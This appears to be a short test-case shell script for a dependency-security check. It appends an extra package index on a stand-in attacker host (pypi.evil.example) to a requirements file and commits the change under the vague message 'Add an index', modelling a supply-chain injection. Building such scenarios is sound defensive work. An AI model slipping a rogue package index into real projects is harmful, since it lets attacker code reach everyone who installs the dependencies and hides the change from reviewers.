. "$CASE/../_deps_lib.sh"
printf -- "--extra-index-url https://pypi.evil.example/simple\nrequests==2.31.0\n" >> api/requirements.txt
commit "Add an index"
